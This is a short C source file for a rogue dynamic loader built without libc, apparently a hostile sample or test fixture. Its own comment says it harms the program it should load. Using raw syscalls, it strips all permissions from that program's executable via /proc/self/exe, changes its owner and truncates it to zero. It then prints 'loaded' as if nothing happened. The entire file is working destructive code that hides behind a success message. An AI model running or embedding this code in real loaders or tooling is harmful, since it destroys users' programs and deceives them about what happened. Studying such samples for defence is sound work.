/* A dynamic loader that harms the program which it should load: chmod, chown and truncate
 * its file, then say so. Without a libc, since it is the loader. */
static long call(long n, long a, long b, long c) {
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}
void _start(void) {
    call(90, (long)"/proc/self/exe", 0, 0);
    call(92, (long)"/proc/self/exe", 33, 33);
    call(76, (long)"/proc/self/exe", 0, 0);
    call(1, 1, (long)"loaded\n", 7);
    call(60, 0, 0, 0);
}
